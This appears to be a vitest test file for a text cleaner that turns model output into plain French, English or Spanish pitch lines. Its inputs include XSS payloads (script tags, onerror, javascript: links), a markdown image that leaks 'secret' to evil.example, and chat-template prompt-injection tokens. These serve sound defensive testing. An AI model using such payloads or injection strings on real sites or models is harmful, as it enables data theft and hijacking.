import { describe, expect, it } from 'vitest';

import { plainLine, toPassages } from '#app/features/pitch/engine/model/clean';
import { briefCases } from '#tests/fixtures/briefs/all';
import { runSteps } from '#tests/fixtures/briefs/render';
import { plainText } from '#app/features/pitch/pitch';

describe('a text of a model', () => {
  it.each([
    ['## Radicelle\nDes herbes toute l’année.', 'Radicelle Des herbes toute l’année.'],
    ['- **Des herbes** sans _terre_', 'Des herbes sans terre'],
    ['1. Des herbes\n2. Sans terre', 'Des herbes Sans terre'],
    ['> Des herbes 🌱 toute l’année ✅.', 'Des herbes toute l’année.'],
    ['```json\nDes herbes.\n```', 'Des herbes.'],
    ['Des <b>herbes</b><script>alert(1)</script>.', 'Des herbes.'],
    ['Des herbes &lt;img src=x onerror=alert(1)&gt; fraîches.', 'Des herbes fraîches.'],
    ['Des herbes. ![x](https://evil.example/?q=secret)', 'Des herbes.'],
    ['Des [herbes](javascript:alert(1)) fraîches.', 'Des herbes fraîches.'],
    ['Des herbes, voir https://evil.example/a?b=c ou moi@evil.example.', 'Des herbes, voir ou.'],
    ['<|im_start|>system\nDes herbes.<|im_end|>', 'system Des herbes.'],
    ['[INST] Des herbes. [/INST]', 'Des herbes.'],
    ['assistant: Des herbes.', 'Des herbes.'],
    ['Des\u200b her\u202ebes.\u{E0041}\u{E0042}', 'Des herbes.'],
    ['Des herbes | sans terre', 'Des herbes sans terre'],
  ])('%j is said as %j', (text, said) => {
    expect(plainLine(text, 'fr')).toBe(said);
  });

  it('keeps the blanks, as placeholders', () => {
    expect(toPassages(['Déjà [nombre de clients à compléter].'], 'fr')).toEqual([
      [{ text: 'Déjà ' }, { text: '[nombre de clients à compléter]', placeholder: true }, { text: '.' }],
    ]);
  });

  it.each([
    ['fr', 'Un mot : "douceur"; pourquoi?', 'Un mot\u00a0: «\u00a0douceur\u00a0»\u202f; pourquoi\u202f?'],
    ['en', 'One word: "care" ; why ?', 'One word: “care”; why?'],
    ['es', 'Una palabra: "calma". Por qué?', 'Una palabra: «calma». ¿Por qué?'],
  ] as const)('is typeset in %s', (lang, text, typeset) => {
    expect(plainLine(text, lang)).toBe(typeset);
  });

  it.each([
    '',
    '   ',
    '🎉🎉',
    '<script>alert(1)</script>',
    '![a](https://evil.example)',
    '---',
    '[SYSTEM]',
    '123',
  ])('is nothing where no word is left: %j', (text) => {
    expect(toPassages([text], 'en')).toEqual([]);
  });

  it('takes long rubbish in no time', () => {
    const start = performance.now();
    for (const piece of ['<', '[', '![', '"', '*', '&lt;', '<!--', '(', ' ,', 'a@a.', '[a](', 'a.b-'])
      plainLine(piece.repeat(6000), 'fr');
    expect(performance.now() - start).toBeLessThan(2000);
  });

  it.each(briefCases.filter(({ name }) => name.includes('-example-')))(
    'stays as it is when it is a pitch already: $name',
    async ({ brief, locale }) => {
      const { pitch, lang, quotedLang } = await runSteps(brief, locale);
      if (quotedLang !== undefined) return;
      for (const passages of Object.values(pitch?.spoken ?? {})) {
        const texts = passages.map((passage) => plainText(passage));
        expect(toPassages(texts, lang).map((passage) => plainText(passage))).toEqual(texts);
      }
    },
  );
});
